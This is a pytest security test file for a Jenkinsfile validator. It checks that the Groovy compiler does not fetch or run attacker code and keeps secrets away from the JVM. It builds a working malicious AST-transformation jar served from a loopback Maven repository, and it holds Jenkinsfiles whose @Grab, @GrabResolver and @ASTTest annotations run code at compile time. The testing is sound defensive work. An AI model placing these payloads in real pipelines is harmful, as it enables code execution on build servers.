"""A Jenkinsfile is untrusted input: checking it with the real Groovy compiler must not fetch
or run its author's code, nor hand the JVM Timbel's secrets (issue 13, finding 1).

The attack: `@GrabResolver(root=...)` + `@Grab(...)` made the compile to CONVERSION download a
jar from the named repository and load it: a global AST transformation in it ran in the JVM,
and the file was still reported valid. Here the repository is a loopback Maven repository
serving such a jar (built with groovyc; its transformation writes a marker file when
constructed): it must receive no request, the marker must not appear, and every annotation
Jenkins refuses in sandboxed pipelines makes the file invalid, named with its line and column.
"""

from __future__ import annotations

import io
import json
import os
import stat
import subprocess
import threading
import uuid
import zipfile
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from tests.fakes.loopback import LoopbackServer
from timbel_dagster.cli.app import main
from timbel_dagster.pipeline_templates import jenkinsfile_check
from timbel_dagster.pipeline_templates.groovy_lexer import MAX_NESTING, nesting_issue, tokenize
from timbel_dagster.pipeline_templates.jenkinsfile_check import (
    COMPILER,
    FALLBACK,
    MAX_FILE_BYTES,
    check_jenkinsfiles,
    child_environment,
    find_java_home,
    jvm_launches,
)

# One worker builds the module fixture, not each (tests/conftest.py): the attacker's
# repository server and one JVM.
pytestmark = pytest.mark.xdist_group("jenkinsfile_untrusted")

SANDBOX = "; Jenkins refuses it in sandboxed pipelines"
FETCHES = (
    " is not allowed in a Jenkinsfile: it makes the Groovy compiler download and load code (Grape)"
)
RUNS = " is not allowed in a Jenkinsfile: it runs its closure inside the Groovy compiler"
PIPELINE = "pipeline {\n  agent any\n  stages { stage('Build') { steps { echo 'hi' } } }\n}\n"
SECRETS = {
    "JENKINS_TOKEN": "jenkins-secret-1c2d",
    "GITLAB_TOKEN": "glpat-secret-9f8e",
    "TIMBEL_DATABASE_URL": "postgresql://timbel:db-secret-7a6b@db/timbel",
}


class FakeMavenRepository(LoopbackServer):
    """A Maven repository that records every request and serves `artifacts` (path -> bytes);
    anything else (checksums, sources) is a 404."""

    url_suffix = "/"

    def __init__(self, artifacts: dict[str, bytes] | None = None) -> None:
        super().__init__()
        self.artifacts = artifacts or {}
        self.requests: list[str] = []
        self._lock = threading.Lock()

    def handler(self) -> type[BaseHTTPRequestHandler]:
        repository = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                with repository._lock:
                    repository.requests.append(f"{self.command} {self.path}")
                body = repository.artifacts.get(self.path)
                self.send_response(404 if body is None else 200)
                self.send_header("Content-Length", str(len(body or b"")))
                self.end_headers()
                if body is not None and self.command == "GET":
                    self.wfile.write(body)

            do_HEAD = do_GET

        return Handler


PWN = """package evil
import org.codehaus.groovy.ast.ASTNode
import org.codehaus.groovy.control.CompilePhase
import org.codehaus.groovy.control.SourceUnit
import org.codehaus.groovy.transform.ASTTransformation
import org.codehaus.groovy.transform.GroovyASTTransformation


@GroovyASTTransformation(phase = CompilePhase.CONVERSION)
class Pwn implements ASTTransformation {
    Pwn() { new File('MARKER').text = 'pwned' }
    void visit(ASTNode[] nodes, SourceUnit source) { }
}
"""


def evil_artifacts(groovy: str, folder: Path, marker: Path, artifact: str) -> dict[str, bytes]:
    """evil:ARTIFACT:1 as a Maven repository serves it: a pom, and a jar whose global AST
    transformation (META-INF/services) writes `marker` when the compiler loads it."""
    source = folder / "Pwn.groovy"
    source.write_text(PWN.replace("MARKER", str(marker)), encoding="utf-8")
    classes = folder / "classes"
    subprocess.run(
        [str(Path(groovy).with_name("groovyc")), "-d", str(classes), str(source)],
        env=child_environment(find_java_home(), folder),
        cwd=folder,
        capture_output=True,
        timeout=120,
        check=True,
    )
    jar = io.BytesIO()
    with zipfile.ZipFile(jar, "w") as archive:
        archive.write(classes / "evil" / "Pwn.class", "evil/Pwn.class")
        services = "META-INF/services/org.codehaus.groovy.transform.ASTTransformation"
        archive.writestr(services, "evil.Pwn\n")
    pom = (
        "<project><modelVersion>4.0.0</modelVersion><groupId>evil</groupId>"
        f"<artifactId>{artifact}</artifactId><version>1</version></project>"
    )
    base = f"/evil/{artifact}/1/{artifact}-1"
    return {f"{base}.pom": pom.encode(), f"{base}.jar": jar.getvalue()}


def cases(
    repository: str, marker: Path, artifact: str = "evil"
) -> dict[str, tuple[str, list[tuple[int, int, str]]]]:
    """name -> (Jenkinsfile, the expected errors as (line, column, message))."""
    pwn = f"new File('{marker}').text = 'pwned'"
    return {
        "grab-resolver": (
            f"@GrabResolver(name='evil', root='{repository}')\n"
            f"@Grab('evil:{artifact}:1')\nimport evil.Evil\n" + PIPELINE,
            [(1, 1, "@GrabResolver" + FETCHES), (2, 1, "@Grab" + FETCHES)],
        ),
        "grapes-nested-grab": (
            f"@Grapes([@Grab('evil:evil:2'), @GrabResolver(name='e', root='{repository}')])\n"
            "import evil.Evil\n" + PIPELINE,
            [(1, 1, "@Grapes" + FETCHES), (1, 10, "@Grab" + FETCHES),
             (1, 32, "@GrabResolver" + FETCHES)],
        ),
        "qualified-grab-on-a-method": (
            "@groovy.lang.Grab('evil:evil:3')\ndef helper() { 'x' }\nnode { echo helper() }\n",
            [(1, 1, "@groovy.lang.Grab" + FETCHES)],
        ),
        "grab-through-an-import-alias": (
            "import groovy.lang.Grab as Fetch\n@Fetch('evil:evil:4')\nimport evil.Evil\n"
            + PIPELINE,
            [(1, 1, "import of groovy.lang.Grab" + FETCHES),
             (2, 1, "@Fetch (an alias of groovy.lang.Grab)" + FETCHES)],
        ),
        "grab-config-and-exclude": (
            "@GrabConfig(systemClassLoader=true)\n@GrabExclude('a:b')\nimport x.Y\n" + PIPELINE,
            [(1, 1, "@GrabConfig" + FETCHES), (2, 1, "@GrabExclude" + FETCHES)],
        ),
        "asttest-on-a-class": (
            "import groovy.transform.*\n"
            f"@ASTTest(phase=CONVERSION, value={{ {pwn} }})\nclass Helper {{}}\n" + PIPELINE,
            [(2, 1, "@ASTTest" + RUNS)],
        ),
        "asttest-on-a-local-variable-in-a-closure": (
            f"node {{\n  @groovy.transform.ASTTest(value={{ {pwn} }})\n  def x = 1\n}}\n",
            [(2, 3, "@groovy.transform.ASTTest" + RUNS)],
        ),
        "annotation-collector": (
            "@groovy.transform.AnnotationCollector([groovy.transform.ASTTest])\n"
            "@interface Innocent {}\n" + PIPELINE,
            [(1, 1, "@groovy.transform.AnnotationCollector is not allowed in a Jenkinsfile: it "
                    "can bundle annotations that run code in the Groovy compiler")],
        ),
        "compile-static-extensions": (
            "@groovy.transform.CompileStatic(extensions='evil.groovy')\ndef f() { 1 }\n"
            "node { echo \"${f()}\" }\n",
            [(1, 1, "@groovy.transform.CompileStatic(extensions=...) is not allowed in a "
                    "Jenkinsfile: it makes the Groovy compiler run a type-checking script")],
        ),
        "mentions-are-not-annotations": (
            "@Library('shared@main') _\n// @Grab('evil:evil:5')\nimport foo.Grab\n"
            "@interface Marker {}\ndef b = this.@binding\n@Grab('mine') def x = 1\n"
            "node { echo '@Grab(\"evil:evil:6\")' }\n",
            [],
        ),
    }  # fmt: skip


CASE_NAMES = list(cases("http://127.0.0.1:1/", Path("/m")))


@pytest.fixture(scope="module")
def attacked(groovy: str, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Every case checked by ONE real groovy JVM while the attacker's repository listens."""
    folder = tmp_path_factory.mktemp("untrusted")
    marker = folder / "pwned"
    artifact = f"evil-{uuid.uuid4().hex[:8]}"  # never in a grape cache
    repository = FakeMavenRepository(evil_artifacts(groovy, folder, marker, artifact))
    url = repository.start()
    try:
        table = cases(url, marker, artifact)
        paths = []
        for name, (source, _) in table.items():
            path = folder / f"{name}.Jenkinsfile"
            path.write_text(source, encoding="utf-8")
            paths.append(path)
        before = jvm_launches()
        results = check_jenkinsfiles(paths, groovy)
    finally:
        repository.stop()
    return {
        "table": table,
        "by_name": {Path(r["path"]).name.removesuffix(".Jenkinsfile"): r for r in results},
        "requests": repository.requests,
        "marker": marker,
        "launches": jvm_launches() - before,
    }


@pytest.mark.timeout(60)
def test_the_attackers_repository_receives_no_request(attacked: dict[str, Any]) -> None:
    """Before the fix the compiler fetched the pom and the jar (and probed checksums)."""
    assert attacked["launches"] == 1
    assert attacked["requests"] == []


def test_compile_time_code_does_not_run(attacked: dict[str, Any]) -> None:
    """Before the fix the jar's transformation wrote the marker (and the file was valid)."""
    assert not attacked["marker"].exists()


def expected_errors(expected: list[tuple[int, int, str]]) -> list[dict[str, Any]]:
    return [
        {"line": line, "column": col, "message": text + SANDBOX} for line, col, text in expected
    ]


@pytest.mark.parametrize("name", CASE_NAMES)
def test_refused_annotations_make_the_file_invalid(attacked: dict[str, Any], name: str) -> None:
    checked = attacked["by_name"][name]
    expected = attacked["table"][name][1]
    assert checked["checker"] == COMPILER
    assert checked["errors"] == expected_errors(expected)
    assert checked["valid"] is (not expected)


@pytest.mark.parametrize("name", CASE_NAMES)
def test_the_fallback_without_groovy_refuses_the_same(
    name: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """No compiler, no code run; the light tokeniser finds the same uses at the same places."""
    monkeypatch.setattr(jenkinsfile_check, "find_groovy", lambda: None)
    source, expected = cases("http://127.0.0.1:1/", tmp_path / "pwned")[name]
    path = tmp_path / "Jenkinsfile"
    path.write_text(source, encoding="utf-8")
    (checked,) = check_jenkinsfiles([path])
    assert checked["checker"] == FALLBACK
    assert checked["errors"] == expected_errors(expected)


@pytest.mark.timeout(60)
def test_the_jvm_gets_none_of_the_callers_secrets(
    groovy: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A groovy wrapper first runs a real Groovy script, through the same launcher and
    environment, that writes the JVM's System.getenv() and properties; then the real check."""
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("CLASSPATH", str(tmp_path))
    dump = tmp_path / "environment.json"
    probe = tmp_path / "probe.groovy"
    probe.write_text(
        "def props = ['user.home', 'java.io.tmpdir', 'groovy.grape.enable', 'user.dir']\n"
        f"new File('{dump}').setText(groovy.json.JsonOutput.toJson([env: System.getenv(), "
        "props: props.collectEntries { [it, System.getProperty(it)] }]), 'UTF-8')\n",
        encoding="utf-8",
    )
    wrapper = tmp_path / "groovy"
    wrapper.write_text(f'#!/bin/sh\n"{groovy}" "{probe}" || exit 3\nexec "{groovy}" "$@"\n')
    wrapper.chmod(wrapper.stat().st_mode | stat.S_IEXEC)
    jenkinsfile = tmp_path / "Jenkinsfile"
    jenkinsfile.write_text(PIPELINE, encoding="utf-8")

    (checked,) = check_jenkinsfiles([jenkinsfile], str(wrapper))

    assert (checked["valid"], checked["checker"]) == (True, COMPILER)
    seen = json.loads(dump.read_text(encoding="utf-8"))
    text = json.dumps(seen)
    assert not [secret for secret in SECRETS.values() if secret in text]
    assert str(tmp_path) not in json.dumps(seen["env"])  # not even CLASSPATH
    assert set(seen["env"]) - {"PWD", "SHLVL", "_"} <= {
        "PATH", "HOME", "LANG", "JAVA_HOME", "JAVA_OPTS"
    }  # fmt: skip
    assert (seen["env"]["PATH"], seen["env"]["LANG"]) == (os.environ["PATH"], "C.UTF-8")
    assert seen["env"]["JAVA_HOME"] == str(find_java_home())
    home = seen["env"]["HOME"]
    assert Path(home).name.startswith("timbel-groovy-") and not Path(home).exists()
    assert seen["props"] == {
        "user.home": home, "java.io.tmpdir": home, "groovy.grape.enable": "false", "user.dir": home
    }  # fmt: skip


def test_without_a_debian_jdk_the_callers_java_home_and_path_pass_and_nothing_else(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("JAVA_HOME", "/opt/jdk")
    monkeypatch.setenv("JAVA_TOOL_OPTIONS", "-javaagent:/tmp/agent.jar")
    monkeypatch.setenv("PATH", "/opt/jdk/bin:/usr/bin:/bin")
    environment = child_environment(None, tmp_path)
    assert set(environment) == {"PATH", "HOME", "LANG", "JAVA_HOME", "JAVA_OPTS"}
    assert (environment["PATH"], environment["JAVA_HOME"]) == (
        "/opt/jdk/bin:/usr/bin:/bin",
        "/opt/jdk",
    )
    assert environment["HOME"] == str(tmp_path)


@pytest.mark.timeout(60)
def test_template_validate_reports_the_grab(groovy: str, tmp_path: Path) -> None:
    """`timbel template validate` (the path of publish, preview and generate --output too)."""
    repository = FakeMavenRepository()
    url = repository.start()
    try:
        path = tmp_path / "Jenkinsfile"
        path.write_text(cases(url, tmp_path / "m")["grab-resolver"][0], encoding="utf-8")
        done = CliRunner().invoke(main, ["template", "validate", str(path)])
    finally:
        repository.stop()
    assert repository.requests == []
    assert done.exit_code == 1
    assert f"{path}:1:1: error: @GrabResolver{FETCHES}{SANDBOX}" in done.output
    assert f"{path}:2:1: error: @Grab{FETCHES}{SANDBOX}" in done.output
    assert f"{path}: 2 error(s) (jenkinsfile, checked by {COMPILER})" in done.output


@pytest.mark.timeout(60)
def test_the_batch_goes_on_past_a_file_too_deep_or_too_large(groovy: str, tmp_path: Path) -> None:
    """3,000 nested brackets (6 KB) overflow the Groovy parser's stack: before, the JVM died
    and no file of the batch was checked (GroovyError). A file over the size limit is not
    even read whole, nor sent to the compiler."""
    deep, large, fine = (tmp_path / f"{n}.Jenkinsfile" for n in ("deep", "large", "fine"))
    deep.write_text("x = " + "(" * 3000 + "1" + ")" * 3000 + "\n", encoding="utf-8")
    large.write_text("// " + "x" * (MAX_FILE_BYTES - 3) + "\n", encoding="utf-8")
    fine.write_text(PIPELINE, encoding="utf-8")
    before = jvm_launches()
    too_deep, too_large, checked = check_jenkinsfiles([deep, large, fine], groovy)
    assert jvm_launches() - before == 1
    assert too_large["errors"] == [
        {"line": None, "column": None, "message": "the file is over the limit of 131,072 bytes"}
    ]
    assert (too_large["valid"], too_large["checker"]) == (False, COMPILER)
    assert too_deep["errors"] == [
        {"line": None, "column": None, "message": "nested too deeply for the Groovy compiler "
                                                  "(its parser ran out of stack)"}
    ]  # fmt: skip
    assert (checked["valid"], checked["checker"]) == (True, COMPILER)


@pytest.mark.timeout(30)
@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("x = " + "(" * 50_000 + "1" + ")" * 50_000 + "\n",
         (1, 5 + MAX_NESTING, f"brackets nested more than {MAX_NESTING} levels deep")),
        ("node { " * 10_000 + "}" * 10_000 + "\n",
         (1, 7 * MAX_NESTING + 6, f"brackets nested more than {MAX_NESTING} levels deep")),
        ('x = "' + "${ '' + \"" * 5_000 + '"' + "}" * 5_000 + '"\n',
         (1, 6 + 9 * MAX_NESTING, f"${{...}} nested more than {MAX_NESTING} levels deep")),
    ],
    ids=["parentheses", "blocks", "strings-in-strings"],
)  # fmt: skip
def test_deep_nesting_is_refused_without_recursing(
    source: str, expected: tuple[int, int, str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """The block grouping and ${...} recurse per level: before, a few KB of brackets raised
    RecursionError out of the (fallback) check; now the limit fires at its place."""
    monkeypatch.setattr(jenkinsfile_check, "find_groovy", lambda: None)
    path = tmp_path / "Jenkinsfile"
    path.write_text(source, encoding="utf-8")
    (checked,) = check_jenkinsfiles([path])
    line, column, message = expected
    assert checked["errors"] == [{"line": line, "column": column, "message": message}]


@pytest.mark.parametrize(("extra", "valid"), [(0, True), (1, False)])
def test_the_size_limit_without_groovy(
    extra: int, valid: bool, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(jenkinsfile_check, "find_groovy", lambda: None)
    path = tmp_path / "Jenkinsfile"
    path.write_text("node { }\n// " + "x" * (MAX_FILE_BYTES - 13 + extra) + "\n", encoding="utf-8")
    assert path.stat().st_size == MAX_FILE_BYTES + extra
    (checked,) = check_jenkinsfiles([path])
    assert (checked["valid"], checked["checker"]) == (valid, FALLBACK)


@pytest.mark.parametrize(("depth", "refused"), [(MAX_NESTING, False), (MAX_NESTING + 1, True)])
def test_the_nesting_limit(depth: int, refused: bool) -> None:
    tokens = tokenize("node { " * depth + "}" * depth)[0]
    assert (nesting_issue(tokens) is not None) is refused
